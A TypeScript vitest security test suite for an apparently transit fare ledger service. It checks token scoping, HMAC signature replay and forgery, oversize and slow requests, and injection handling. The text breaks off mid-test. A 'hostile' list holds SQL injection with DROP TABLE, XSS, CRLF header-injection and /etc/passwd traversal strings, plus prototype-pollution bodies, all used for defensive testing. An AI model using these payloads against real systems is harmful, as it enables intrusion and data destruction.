import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeEntry } from '@fareledger/codecs';
import { signRequest } from '@fareledger/device-auth';
import { LedgerReader } from '@fareledger/ledger';
import { LocalTapLog } from '@fareledger/tap-log';
import { cityFiles } from '../../services/city/src/config.js';
import { type DemoCredentials, readCredentials } from '../../services/city/src/credentials.js';
import { type Child, startChild } from '../processes.js';

// The security of every door, end to end: the embedded city (`npm start`'s entry) started
// as a process of its own on a fresh data directory, driven over real HTTP and raw sockets,
// one `describe` per threat. Each refusal is checked for its status, problem type, media
// type and promised headers, and for "nothing stored": the tap counter on /metrics does not
// move, and at the end, once the city sealed what it accepted and stopped, the ledger file
// and the tap log hold exactly the taps that were accepted, the device registry exactly the
// changes that were made on purpose, and no file of the data directory a card number.

const headersTimeoutMs = 1000;
const requestTimeoutMs = 2000;
const problemJson = 'application/problem+json';

interface Device {
  readonly deviceId: string;
  readonly operatorId: string;
  readonly mode: 'metro' | 'bus' | 'taxi';
  readonly keyId: string;
  readonly secret: Uint8Array;
}

let dataDir: string;
let city: Child | undefined;
let base: string;
let port: number;
let credentials: DemoCredentials;
let bus: Device;
let otherBus: Device;
let metro: Device;
/** `deviceId/tapId` of every tap answered 202, and of every tap sent in a refused request. */
const accepted = new Set<string>();
const refused = new Set<string>();
/** Changes made to the device registry on purpose (register, add-key, retire-key, revoke). */
let registryChangesMade = 0;
let registryChangesAtStart = 0;

beforeAll(async () => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'fareledger-security-'));
  city = await startChild('services/city/src/main.ts', {
    DATA_DIR: dataDir, PORT: '0', CITY_SIMULATE: 'false', LOG_LEVEL: 'info',
    INGEST_HEADERS_TIMEOUT_MS: String(headersTimeoutMs), INGEST_REQUEST_TIMEOUT_MS: String(requestTimeoutMs),
  }, 'city listening', { timeoutMs: 60_000 });
  base = city.url;
  port = Number(new URL(base).port);
  credentials = readCredentials(cityFiles(dataDir).credentials);
  const devices: Device[] = credentials.devices.map((d) => ({ ...d, secret: Buffer.from(d.secret, 'base64url') }));
  [bus, otherBus] = devices.filter((d) => d.mode === 'bus') as [Device, Device];
  metro = devices.find((d) => d.mode === 'metro')!;
  registryChangesAtStart = registryChanges();
}, 90_000);

afterAll(async () => {
  await city?.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

// --- requests -------------------------------------------------------------------------

let tapNumber = 0;

/** A valid bus tap of `device`, now, with a fresh tapId. */
function busTap(device: Device, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  tapNumber += 1;
  return {
    tapId: `sec-${tapNumber}`, deviceId: device.deviceId, operatorId: device.operatorId, account: 'wa_demo_0003', mode: 'bus', kind: 'single',
    routeId: 'B101', vehicleId: 'B-75321', eventTime: new Date().toISOString(), ...overrides,
  };
}

interface SignOptions {
  readonly method?: string;
  readonly target?: string;
  readonly timestampMs?: number;
  readonly secret?: Uint8Array;
  readonly keyId?: string;
}

function authorization(device: Device, body: string | Buffer, options: SignOptions = {}): string {
  return signRequest({
    deviceId: device.deviceId, keyId: options.keyId ?? device.keyId, secret: options.secret ?? device.secret,
    method: options.method ?? 'POST', target: options.target ?? '/v1/taps', timestampMs: options.timestampMs ?? Date.now(), body: Buffer.from(body),
  });
}

function postSigned(device: Device, body: string, options: SignOptions & { readonly sendTarget?: string; readonly sendMethod?: string } = {}): Promise<Response> {
  return fetch(`${base}${options.sendTarget ?? options.target ?? '/v1/taps'}`, {
    method: options.sendMethod ?? 'POST', body, headers: { 'content-type': 'application/json', authorization: authorization(device, body, options) },
  });
}

function get(target: string, token?: string, headers: Record<string, string> = {}): Promise<Response> {
  return fetch(`${base}${target}`, { headers: { ...(token === undefined ? {} : { authorization: `Bearer ${token}` }), ...headers } });
}

function admin(method: string, target: string, body?: unknown): Promise<Response> {
  return fetch(`${base}${target}`, {
    method, headers: { authorization: `Bearer ${credentials.adminToken}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
  });
}

const keyOf = (tap: Record<string, unknown>) => `${String(tap['deviceId'])}/${String(tap['tapId'])}`;

/** The problem body, after checking status, type and media type. */
async function expectProblem(response: Response, status: number, slug: string): Promise<Record<string, unknown>> {
  const text = await response.text();
  expect([response.status, response.headers.get('content-type')], text).toEqual([status, problemJson]);
  const body = JSON.parse(text) as Record<string, unknown>;
  expect([body['type'], body['status']]).toEqual([`/problems/${slug}`, status]);
  return body;
}

async function expectAccepted(response: Response, taps: readonly Record<string, unknown>[]): Promise<void> {
  expect([response.status, await response.text()]).toEqual([202, JSON.stringify({ accepted: taps.length })]);
  for (const tap of taps) accepted.add(keyOf(tap));
}

/** Sum of `ingest_taps_accepted_total` over its modes, from the city's /metrics. */
async function tapsAcceptedTotal(): Promise<number> {
  const text = await (await fetch(`${base}/metrics`)).text();
  return text.split('\n').filter((line) => line.startsWith('ingest_taps_accepted_total{')).reduce((sum, line) => sum + Number(line.split(' ').at(-1)), 0);
}

/**
 * Sends a request to the device door that must be refused with `status` and `slug` (a 401
 * with the scheme's challenge), its taps (if any) recorded as refused; the tap counter must
 * not move.
 */
async function refusedTaps(taps: readonly Record<string, unknown>[], send: () => Promise<Response>, status: number, slug: string): Promise<Record<string, unknown>> {
  const before = await tapsAcceptedTotal();
  const response = await send();
  expect(response.headers.get('www-authenticate')).toBe(status === 401 ? 'FL1-HMAC-SHA256' : null);
  const body = await expectProblem(response, status, slug);
  for (const tap of taps) refused.add(keyOf(tap));
  expect(await tapsAcceptedTotal()).toBe(before);
  return body;
}

function registryChanges(): number {
  const db = new Database(cityFiles(dataDir).devices, { readonly: true });
  try {
    return (db.prepare('SELECT count(*) AS n FROM device_changes').get() as { n: number }).n;
  } finally {
    db.close();
  }
}

// --- raw HTTP -------------------------------------------------------------------------

interface RawAnswer {
  /** Everything the server sent until it closed the connection. */
  readonly received: string;
  readonly status: number;
  readonly headers: Readonly<Record<string, string>>;
  /** The first response's body (by its Content-Length). */
  readonly body: string;
  /** From connecting to the server closing the connection. */
  readonly elapsedMs: number;
  /** Whether the server closed the connection before the client had sent all of `parts`. */
  readonly cutOff: boolean;
}

/**
 * Writes `parts` over one socket, `gapMs` apart, and collects what the server answers
 * until it closes the connection (the client never closes first, so a server that does
 * not cut a slow client off fails the test by its timeout). Write errors after the server
 * closed are expected.
 */
function rawExchange(parts: readonly (string | Buffer)[], gapMs = 0, halfClose = false): Promise<RawAnswer> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    const startedAtMs = Date.now();
    let sent = 0;
    let closed = false;
    const socket = net.connect(port, '127.0.0.1');
    const writeNext = () => {
      if (closed) return;
      if (sent === parts.length) {
        if (halfClose) socket.end();
        return;
      }
      socket.write(parts[sent]!);
      sent += 1;
      if (gapMs === 0) writeNext();
      else setTimeout(writeNext, gapMs);
    };
    socket.on('connect', writeNext);
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', () => {});
    socket.on('close', () => {
      closed = true;
      const received = Buffer.concat(chunks).toString('latin1');
      resolve({ ...parseFirstResponse(received), received, elapsedMs: Date.now() - startedAtMs, cutOff: sent < parts.length });
    });
  });
}

function parseFirstResponse(received: string): { status: number; headers: Record<string, string>; body: string } {
  const headEnd = received.indexOf('\r\n\r\n');
  if (headEnd < 0) return { status: 0, headers: {}, body: '' };
  const [statusLine, ...lines] = received.slice(0, headEnd).split('\r\n');
  const headers = Object.fromEntries(lines.map((line) => [line.slice(0, line.indexOf(':')).toLowerCase(), line.slice(line.indexOf(':') + 1).trim()]));
  const length = Number(headers['content-length'] ?? 0);
  return { status: Number(statusLine!.split(' ')[1]), headers, body: received.slice(headEnd + 4, headEnd + 4 + length) };
}

function expectRawProblem(answer: RawAnswer, status: number, slug: string): Record<string, unknown> {
  expect([answer.status, answer.headers['content-type']], answer.received).toEqual([status, problemJson]);
  const body = JSON.parse(answer.body) as Record<string, unknown>;
  expect([body['type'], body['status']]).toEqual([`/problems/${slug}`, status]);
  return body;
}

/** A signed POST /v1/taps as raw bytes: head (with the given framing headers) and body. */
function rawTapsRequest(device: Device, body: string, framing: string): { head: string; body: string } {
  const auth = authorization(device, body);
  return { head: `POST /v1/taps HTTP/1.1\r\nHost: fareledger\r\nConnection: close\r\nContent-Type: application/json\r\nAuthorization: ${auth}\r\n${framing}\r\n`, body };
}

// --- invoices the wallet tests read -----------------------------------------------------

interface WalletTrip {
  readonly account: string;
  readonly token: string;
  readonly tapId: string;
  readonly number: string;
  readonly tripId: string;
}

/** Posts one bus tap for `account` and waits for its trip's invoice through the wallet door. */
async function sealedTrip(account: string, token: string): Promise<WalletTrip> {
  const tap = busTap(bus, { account });
  await expectAccepted(await postSigned(bus, JSON.stringify(tap)), [tap]);
  const response = await get(`/v1/taps/${String(tap['tapId'])}/invoice?waitMs=20000`, token);
  expect(response.status).toBe(200);
  const invoice = (await response.json()) as { number: string; item: { tripId: string } };
  return { account, token, tapId: String(tap['tapId']), number: invoice.number, tripId: invoice.item.tripId };
}

async function issueWalletToken(account: string): Promise<{ token: string; tokenId: string }> {
  const response = await admin('POST', '/v1/admin/tokens', { role: 'wallet', account, label: 'security test' });
  expect(response.status).toBe(201);
  const issued = (await response.json()) as { token: string; record: { tokenId: string } };
  return { token: issued.token, tokenId: issued.record.tokenId };
}

// --- the threats --------------------------------------------------------------------------

describe('wallets and tokens stay behind their own doors', () => {
  let mine: WalletTrip;
  let theirs: WalletTrip;
  beforeAll(async () => {
    const [a, b] = credentials.wallets as [{ account: string; token: string }, { account: string; token: string }];
    [mine, theirs] = await Promise.all([sealedTrip(a.account, a.token), sealedTrip(b.account, b.token)]);
  }, 60_000);

  it('reads its own invoice, trips and tap (the control)', async () => {
    for (const target of [`/v1/invoices/${mine.number}`, `/v1/taps/${mine.tapId}/invoice`]) {
      const response = await get(target, mine.token);
      expect([response.status, ((await response.json()) as { number: string }).number]).toEqual([200, mine.number]);
    }
    const trips = (await (await get(`/v1/accounts/${mine.account}/trips`, mine.token)).json()) as { items: { number: string }[] };
    expect(trips.items.map((item) => item.number)).toEqual([mine.number]);
  });

  it("answers another account's invoice exactly as a missing one, on every wallet route that names it", async () => {
    const missing = '26000000000000000000';
    const absent = await expectProblem(await get(`/v1/invoices/${missing}`, mine.token), 404, 'not-found');
    for (const [target, headers] of [[`/v1/invoices/${theirs.number}`, {}], [`/v1/invoices/${theirs.number}?since=1`, {}], [`/v1/invoices/${theirs.number}`, { accept: 'text/html' }]] as const) {
      const body = await expectProblem(await get(target, mine.token, headers), 404, 'not-found');
      expect(body).toEqual({ ...absent, detail: String(absent['detail']).replace(missing, theirs.number) });
    }
    for (const target of [`/v1/taps/${theirs.tapId}/invoice`, `/v1/taps/${theirs.tapId}/invoice?waitMs=0`]) {
      const body = await expectProblem(await get(target, mine.token), 404, 'not-found');
      expect(JSON.stringify(body)).not.toContain(theirs.number);
    }
  });

  it("refuses another account's trips and invoices listings with 403", async () => {
    for (const listing of ['trips', 'invoices']) {
      for (const query of ['', '?limit=1']) {
        const body = await expectProblem(await get(`/v1/accounts/${theirs.account}/${listing}${query}`, mine.token), 403, 'forbidden');
        expect(JSON.stringify(body)).not.toContain(theirs.number);
      }
    }
  });

  it('opens each door only to its own kind of token', async () => {
    const wallet = mine.token;
    const auditor = credentials.auditor.token;
    const adminToken = credentials.adminToken;
    const doors = {
      wallet: `/v1/accounts/${mine.account}/invoices`,
      audit: '/v1/audit/totals?from=2026-01-01&to=2026-01-02',
      tokenAdmin: '/v1/admin/tokens?limit=1',
      deviceAdmin: '/v1/admin/devices?limit=1',
    };
    const walletRealm = 'Bearer realm="fareledger"';
    const adminRealm = 'Bearer realm="fareledger-admin"';
    const cases: [door: keyof typeof doors, token: string | undefined, status: number, challenge: string | null][] = [
      ['wallet', wallet, 200, null], ['wallet', auditor, 200, null], ['wallet', adminToken, 401, walletRealm], ['wallet', undefined, 401, walletRealm], ['wallet', 'flw_forged', 401, walletRealm],
      ['audit', auditor, 200, null], ['audit', wallet, 403, null], ['audit', adminToken, 401, walletRealm], ['audit', undefined, 401, walletRealm],
      ['tokenAdmin', adminToken, 200, null], ['tokenAdmin', wallet, 401, adminRealm], ['tokenAdmin', auditor, 401, adminRealm], ['tokenAdmin', undefined, 401, adminRealm],
      ['deviceAdmin', adminToken, 200, null], ['deviceAdmin', wallet, 401, adminRealm], ['deviceAdmin', auditor, 401, adminRealm], ['deviceAdmin', undefined, 401, adminRealm],
    ];
    for (const [door, token, status, challenge] of cases) {
      const response = await get(doors[door], token);
      const outcome = [door, token === undefined ? 'none' : token.slice(0, 4), response.status, response.headers.get('www-authenticate')];
      expect(outcome).toEqual([door, token === undefined ? 'none' : token.slice(0, 4), status, challenge]);
      if (status !== 200) await expectProblem(response, status, status === 401 ? 'unauthenticated' : 'forbidden');
      else await response.arrayBuffer();
    }
  });

  it("refuses an auditor token on a wallet's tap route, which reads the token's own account", async () => {
    await expectProblem(await get(`/v1/taps/${mine.tapId}/invoice`, credentials.auditor.token), 403, 'forbidden');
  });

  it('refuses bearer tokens at the device door, and a device signature at the wallet door', async () => {
    for (const token of [mine.token, credentials.auditor.token, credentials.adminToken]) {
      const tap = busTap(bus);
      const send = () => fetch(`${base}/v1/taps`, { method: 'POST', body: JSON.stringify(tap), headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` } });
      await refusedTaps([tap], send, 401, 'unauthenticated');
    }
    const signedGet = authorization(bus, '', { method: 'GET', target: `/v1/invoices/${mine.number}` });
    const response = await get(`/v1/invoices/${mine.number}`, undefined, { authorization: signedGet });
    expect(response.headers.get('www-authenticate')).toBe('Bearer realm="fareledger"');
    await expectProblem(response, 401, 'unauthenticated');
  });

  it('stops a wallet token at once when the admin revokes it', async () => {
    const { token, tokenId } = await issueWalletToken(mine.account);
    expect((await get(`/v1/invoices/${mine.number}`, token)).status).toBe(200);
    expect((await admin('POST', `/v1/admin/tokens/${tokenId}/revoke`)).status).toBe(200);
    await expectProblem(await get(`/v1/invoices/${mine.number}`, token), 401, 'unauthenticated');
  });
});

describe('device signatures: forged, altered, expired, replayed, revoked, retired, in another name', () => {
  it('accepts a valid signed tap (the control)', async () => {
    const tap = busTap(bus);
    await expectAccepted(await postSigned(bus, JSON.stringify(tap)), [tap]);
  });

  it('refuses a wrong secret, an unknown device and every alteration after signing with one answer', async () => {
    const cases: [string, (body: string) => Promise<Response>][] = [
      ['wrong secret', (body) => postSigned(bus, body, { secret: Buffer.alloc(32, 7) })],
      ['another device\'s secret', (body) => postSigned(bus, body, { secret: otherBus.secret })],
      ['unknown device', (body) => postSigned({ ...bus, deviceId: 'sec-no-such-device' }, body)],
      ['unknown key', (body) => postSigned(bus, body, { keyId: 'k9' })],
      ['body altered', (body) => fetch(`${base}/v1/taps`, { method: 'POST', body: body.replace('B-75321', 'B-75322'), headers: { 'content-type': 'application/json', authorization: authorization(bus, body) } })],
      ['target altered', (body) => postSigned(bus, body, { target: '/v1/taps', sendTarget: '/v1/taps?via=proxy' })],
      ['target signed with a query, sent without', (body) => postSigned(bus, body, { target: '/v1/taps?a=1', sendTarget: '/v1/taps' })],
      ['method altered', (body) => postSigned(bus, body, { method: 'PUT', sendMethod: 'POST' })],
    ];
    const answers: [string, unknown][] = [];
    for (const [name, send] of cases) {
      const tap = busTap(bus);
      answers.push([name, (await refusedTaps([tap], () => send(JSON.stringify(tap)), 401, 'unauthenticated'))['detail']]);
    }
    // One answer for all of them: the door does not tell which devices and keys exist.
    const notVerified = 'The signature could not be verified: check the device id, key id, secret and what is signed (docs/security.md).';
    expect(answers).toEqual(cases.map(([name]) => [name, notVerified]));
  });

  it('refuses a timestamp beyond the 30 s skew either way, and admits one inside it', async () => {
    for (const offsetMs of [-31_000, 31_000, -3_600_000]) {
      const tap = busTap(bus);
      const body = await refusedTaps([tap], () => postSigned(bus, JSON.stringify(tap), { timestampMs: Date.now() + offsetMs }), 401, 'unauthenticated');
      expect(body['detail']).toBe('The signature timestamp is outside the replay window: check the device clock, then sign again.');
    }
    const tap = busTap(bus);
    await expectAccepted(await postSigned(bus, JSON.stringify(tap), { timestampMs: Date.now() - 25_000 }), [tap]);
  });

  it('refuses the same signed request the second time', async () => {
    const tap = busTap(bus);
    const body = JSON.stringify(tap);
    const headers = { 'content-type': 'application/json', authorization: authorization(bus, body) };
    const send = () => fetch(`${base}/v1/taps`, { method: 'POST', body, headers });
    await expectAccepted(await send(), [tap]);
    const problem = await refusedTaps([], send, 401, 'unauthenticated');
    expect(problem['detail']).toBe('This signature was already used: sign every attempt, retries included, afresh.');
  });

  it('refuses a validly signed request of a device revoked through the admin API with 403', async () => {
    const device = await registerDevice(`sec-revoked-${Date.now()}`);
    const first = busTap(device);
    await expectAccepted(await postSigned(device, JSON.stringify(first)), [first]);
    expect((await admin('POST', `/v1/admin/devices/${device.deviceId}/revoke`)).status).toBe(200);
    registryChangesMade += 1;
    const tap = busTap(device);
    const body = await refusedTaps([tap], () => postSigned(device, JSON.stringify(tap)), 403, 'forbidden');
    expect(body['detail']).toBe(`Device ${device.deviceId} is revoked; register the device again under a new id.`);
    await expectProblem(await admin('POST', `/v1/admin/devices/${device.deviceId}/keys`), 409, 'device-conflict');
  });

  it('refuses a retired key with 401 while the new key works', async () => {
    const device = await registerDevice(`sec-rotated-${Date.now()}`);
    const added = await admin('POST', `/v1/admin/devices/${device.deviceId}/keys`);
    expect(added.status).toBe(201);
    const { keyId, secret } = (await added.json()) as { keyId: string; secret: string };
    expect((await admin('DELETE', `/v1/admin/devices/${device.deviceId}/keys/${device.keyId}`)).status).toBe(200);
    registryChangesMade += 2;
    const old = busTap(device);
    await refusedTaps([old], () => postSigned(device, JSON.stringify(old)), 401, 'unauthenticated');
    const rotated = { ...device, keyId, secret: Buffer.from(secret, 'base64url') };
    const tap = busTap(rotated);
    await expectAccepted(await postSigned(rotated, JSON.stringify(tap)), [tap]);
  });

  it("refuses taps in another device's, operator's or mode's name, the whole batch with them", async () => {
    const foreignDevice = busTap(bus, { deviceId: otherBus.deviceId });
    const foreignOperator = busTap(bus, { operatorId: metro.operatorId });
    const foreignMode = { ...busTap(bus, { mode: 'metro', kind: 'in', stationId: 'L1-S07' }), routeId: undefined, vehicleId: undefined };
    const cases: [Record<string, unknown>, string][] = [[foreignDevice, '/deviceId'], [foreignOperator, '/operatorId'], [foreignMode, '/mode']];
    for (const [tap, pointer] of cases) {
      const body = await refusedTaps([tap], () => postSigned(bus, JSON.stringify(tap)), 403, 'forbidden');
      expect((body['errors'] as { pointer: string }[]).map((error) => error.pointer)).toEqual([pointer]);
    }
    const good = busTap(bus);
    const batch = [good, busTap(bus, { deviceId: otherBus.deviceId })];
    const body = await refusedTaps(batch, () => postSigned(bus, JSON.stringify({ taps: batch })), 403, 'forbidden');
    expect(body['errors']).toEqual([{ pointer: '/taps/1/deviceId', detail: `the request is signed by device ${bus.deviceId}` }]);
  });
});

async function registerDevice(deviceId: string): Promise<Device> {
  const response = await admin('POST', '/v1/admin/devices', { deviceId, operatorId: bus.operatorId, mode: 'bus', label: 'security test' });
  expect(response.status).toBe(201);
  registryChangesMade += 1;
  const { keyId, secret } = (await response.json()) as { keyId: string; secret: string };
  return { deviceId, operatorId: bus.operatorId, mode: 'bus', keyId, secret: Buffer.from(secret, 'base64url') };
}

describe('oversize bodies and batches', () => {
  const bodyBytesMax = 512 * 1024;

  function batchOf(count: number): Record<string, unknown>[] {
    return Array.from({ length: count }, () => busTap(bus));
  }

  it('refuses a body over the byte limit with 413 before reading it', async () => {
    const taps = batchOf(2500);
    const body = JSON.stringify({ taps });
    expect(Buffer.byteLength(body)).toBeGreaterThan(bodyBytesMax);
    const problem = await refusedTaps(taps, () => postSigned(bus, body), 413, 'payload-too-large');
    expect(problem['bodyBytesMax']).toBe(bodyBytesMax);
  });

  it('refuses a Content-Length that claims more than the limit, whatever follows', async () => {
    const taps = batchOf(1);
    const { head, body } = rawTapsRequest(bus, JSON.stringify(taps[0]), `Content-Length: ${10 * 1024 * 1024}\r\n`);
    const before = await tapsAcceptedTotal();
    const answer = await rawExchange([head, body], 0, true);
    expectRawProblem(answer, 413, 'payload-too-large');
    for (const tap of taps) refused.add(keyOf(tap));
    expect(await tapsAcceptedTotal()).toBe(before);
  });

  it('refuses a chunked upload as soon as it passes the limit', async () => {
    const taps = batchOf(2500);
    const json = JSON.stringify({ taps });
    const { head } = rawTapsRequest(bus, json, 'Transfer-Encoding: chunked\r\n');
    const chunkBytes = 64 * 1024;
    const parts: string[] = [head];
    for (let offset = 0; offset < json.length; offset += chunkBytes) {
      const chunk = json.slice(offset, offset + chunkBytes);
      parts.push(`${chunk.length.toString(16)}\r\n${chunk}\r\n`);
    }
    parts.push('0\r\n\r\n');
    const before = await tapsAcceptedTotal();
    const answer = await rawExchange(parts, 20);
    expectRawProblem(answer, 413, 'payload-too-large');
    for (const tap of taps) refused.add(keyOf(tap));
    expect(await tapsAcceptedTotal()).toBe(before);
  });

  it('accepts a small chunked upload (the control)', async () => {
    const tap = busTap(bus);
    const json = JSON.stringify(tap);
    const { head } = rawTapsRequest(bus, json, 'Transfer-Encoding: chunked\r\n');
    const answer = await rawExchange([head, `${json.length.toString(16)}\r\n${json}\r\n0\r\n\r\n`]);
    expect([answer.status, answer.body]).toEqual([202, '{"accepted":1}']);
    accepted.add(keyOf(tap));
  });

  it('refuses a body shorter or longer than its Content-Length, or one without any, and stores nothing', async () => {
    // Node's parser sees the bytes past the declared body (or past the head, with no
    // Content-Length) as a second request after `Connection: close`, and a body cut short by
    // the client's end of stream: both are not HTTP/1.1, refused before any route runs.
    const cases: [string, (json: string) => string, boolean][] = [
      ['Content-Length short of the body', (json) => `Content-Length: ${Buffer.byteLength(json) - 10}\r\n`, false],
      ['no Content-Length and no chunking', () => '', false],
      ['Content-Length past the body, then the client ends its stream', (json) => `Content-Length: ${Buffer.byteLength(json) + 100}\r\n`, true],
    ];
    for (const [name, framing, halfClose] of cases) {
      const tap = busTap(bus);
      const json = JSON.stringify(tap);
      const { head, body } = rawTapsRequest(bus, json, framing(json));
      const before = await tapsAcceptedTotal();
      const answer = await rawExchange([head + body], 0, halfClose);
      expect([name, answer.status]).toEqual([name, 400]);
      expectRawProblem(answer, 400, 'malformed-request');
      refused.add(keyOf(tap));
      expect(await tapsAcceptedTotal()).toBe(before);
    }
  });

  it('refuses a batch one tap over the limit with 413 batch-too-large, and accepts one at the limit', async () => {
    const over = batchOf(501);
    const problem = await refusedTaps(over, () => postSigned(bus, JSON.stringify({ taps: over })), 413, 'batch-too-large');
    expect(problem['batchTapsMax']).toBe(500);
    const full = batchOf(500);
    await expectAccepted(await postSigned(bus, JSON.stringify({ taps: full })), full);
  });
});

describe('slow clients are cut off', () => {
  it('cuts off a client that sends its headers too slowly', async () => {
    const tap = busTap(bus);
    const { head, body } = rawTapsRequest(bus, JSON.stringify(tap), `Content-Length: ${Buffer.byteLength(JSON.stringify(tap))}\r\n`);
    const before = await tapsAcceptedTotal();
    // One byte every 100 ms: each arrives in time, the whole head (~250 bytes) would take 25 s.
    const answer = await rawExchange([...head.split(''), body], 100);
    expect(answer.cutOff).toBe(true);
    expect(answer.elapsedMs).toBeGreaterThanOrEqual(headersTimeoutMs);
    expectRawProblem(answer, 408, 'request-timeout');
    expect(answer.headers['connection']).toBe('close');
    refused.add(keyOf(tap));
    expect(await tapsAcceptedTotal()).toBe(before);
  });

  it('cuts off a client that stops in the middle of its headers', async () => {
    const answer = await rawExchange(['GET /v1/chains HTTP/1.1\r\nHost: fareledger\r\n']);
    expect(answer.elapsedMs).toBeGreaterThanOrEqual(headersTimeoutMs);
    expectRawProblem(answer, 408, 'request-timeout');
  });

  it('cuts off a client that sends its body too slowly, and stores nothing of it', async () => {
    const tap = busTap(bus);
    const json = JSON.stringify(tap);
    const { head } = rawTapsRequest(bus, json, `Content-Length: ${Buffer.byteLength(json)}\r\n`);
    const before = await tapsAcceptedTotal();
    // The head at once, then the body a byte every 50 ms: it would take ~12 s.
    const answer = await rawExchange([head, ...json.split('')], 50);
    expect(answer.cutOff).toBe(true);
    expect(answer.elapsedMs).toBeGreaterThanOrEqual(requestTimeoutMs);
    expectRawProblem(answer, 408, 'request-timeout');
    refused.add(keyOf(tap));
    expect(await tapsAcceptedTotal()).toBe(before);
  });

  it('goes on serving others (the control)', async () => {
    const tap = busTap(bus);
    await expectAccepted(await postSigned(bus, JSON.stringify(tap)), [tap]);
  });
});

// Strings an attacker tries in every text field; none may reach SQL, HTML or a header as code.
const hostile = {
  sql: "' OR '1'='1' --",
  sqlNoSpace: "x'OR'1'='1';DROP/**/TABLE/**/entries;--",
  html: '<script>alert(1)</script>',
  htmlAttribute: '"><img/src=x/onerror=alert(1)>',
  nul: 'a\u0000b',
  control: 'a\u0007b\u001b[31m',
  crlf: 'a\r\nSet-Cookie: pwned=1',
  traversal: '../../../../etc/passwd',
  traversalBackslash: '..\\..\\..\\windows\\win.ini',
  rtl: 'invoice\u202Efdp.exe',
  zeroWidth: 'wa\u200Bdemo',
  homoglyph: 'wа_demo_0001', // the second letter is Cyrillic
  emoji: '🚇',
  overlong: 'a'.repeat(10_000),
} as const;
type Hostile = keyof typeof hostile;
const hostileNames = Object.keys(hostile) as Hostile[];

/** Hostile values that are valid account tokens (printable ASCII, no spaces, 1..128): stored verbatim. */
const validAccounts: readonly Hostile[] = ['sqlNoSpace', 'html', 'htmlAttribute', 'traversal', 'traversalBackslash'];
/** Names that a lookup in a plain object finds on Object.prototype; valid identifiers, so each door must treat them as data. */
const prototypeNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'] as const;

describe('injection strings in every text field', () => {
  it('refuses each in every identifier and enum field of a tap with 400 naming the field', async () => {
    const fields = ['tapId', 'deviceId', 'operatorId', 'mode', 'kind', 'routeId', 'vehicleId', 'eventTime'];
    for (const field of fields) {
      for (const name of hostileNames) {
        const tap = busTap(bus, { [field]: hostile[name] });
        const body = await refusedTaps([tap], () => postSigned(bus, JSON.stringify(tap)), 400, 'invalid-request');
        const pointers = (body['errors'] as { pointer: string }[]).map((error) => error.pointer);
        expect([field, name, pointers]).toEqual([field, name, [`/${field}`]]);
      }
    }
  });

  it('refuses hostile accounts that are not printable ASCII tokens, and stores the others verbatim', async () => {
    for (const name of hostileNames.filter((n) => !validAccounts.includes(n))) {
      const tap = busTap(bus, { account: hostile[name] });
      const body = await refusedTaps([tap], () => postSigned(bus, JSON.stringify(tap)), 400, 'invalid-request');
      expect([name, (body['errors'] as { pointer: string }[]).map((error) => error.pointer)]).toEqual([name, ['/account']]);
    }
    const taps = validAccounts.map((name) => busTap(bus, { account: hostile[name] }));
    await expectAccepted(await postSigned(bus, JSON.stringify({ taps })), taps);
  });

  it('refuses prototype-pollution keys anywhere in a tap body', async () => {
    const tap = busTap(bus);
    const bodies = [
      `{"__proto__":{"admin":true},${JSON.stringify(tap).slice(1)}`,
      `{"constructor":{"prototype":{"admin":true}},${JSON.stringify(tap).slice(1)}`,
      `{"taps":[${JSON.stringify(tap)}],"__proto__":{"admin":true}}`,
      `{"taps":[{"__proto__":{"mode":"metro"},${JSON.stringify(tap).slice(1)}]}`,
    ];
    for (const body of bodies) {
      await refusedTaps([tap], () => postSigned(bus, body), 400, 'invalid-request');
    }
  });

  it('treats prototype names as plain data: valid ids and accounts stored verbatim, every lookup by them a 404 or an empty answer', async () => {
    const taps = prototypeNames.flatMap((name) => [busTap(bus, { tapId: name, account: name }), busTap(bus, { routeId: name, vehicleId: name, account: `wa_${name}` })]);
    await expectAccepted(await postSigned(bus, JSON.stringify({ taps })), taps);
    for (const name of prototypeNames) {
      for (const [field, status, slug] of [['deviceId', 403, 'forbidden'], ['operatorId', 403, 'forbidden'], ['mode', 400, 'invalid-request'], ['kind', 400, 'invalid-request']] as const) {
        const tap = busTap(bus, { [field]: name });
        await refusedTaps([tap], () => postSigned(bus, JSON.stringify(tap)), status, slug);
      }
      const auditor = credentials.auditor.token;
      for (const target of [`/docs/${name}`, `/problems/${name}`, `/v1/invoices/${name}`, `/v1/audit/jobs/${name}`, `/v1/audit/invoices/${name}`, `/v1/chains/${name}/checkpoint`, `/v1/admin/tokens/${name}`, `/v1/admin/devices/${name}`, `/demo/invoices/${name}`]) {
        const response = await get(target, target.startsWith('/v1/admin') ? credentials.adminToken : auditor);
        const text = await response.text();
        expect([target, response.status, response.headers.get('content-type')], text).toEqual([target, 404, problemJson]);
      }
      for (const target of [`/v1/accounts/${name}x/trips`, `/v1/admin/devices?operatorId=${name}`, `/v1/admin/tokens?account=${name}x`]) {
        const response = await get(target, target.startsWith('/v1/admin') ? credentials.adminToken : auditor);
        expect([target, response.status, await response.json()]).toEqual([target, 200, target.includes('devices') ? { devices: [], next: null } : target.includes('tokens') ? { tokens: [] } : { items: [], next: null }]);
      }
      await expectProblem(await get(`/v1/accounts/wa_demo_0001/trips?${name}=1`, auditor), 400, 'invalid-request');
    }
  });

  it('refuses each in the device admin API, stores a free-text label verbatim, and leaves the registry otherwise unchanged', async () => {
    const listing = async () => (await admin('GET', '/v1/admin/devices?limit=1000')).json();
    const before = await listing();
    const changesBefore = registryChanges();
    const registration = (overrides: Record<string, unknown>) => ({ deviceId: `sec-admin-${tapNumber++}`, operatorId: 'szbus', mode: 'bus', ...overrides });
    for (const name of hostileNames) {
      for (const field of ['deviceId', 'operatorId', 'mode']) {
        const body = await expectProblem(await admin('POST', '/v1/admin/devices', registration({ [field]: hostile[name] })), 400, 'invalid-request');
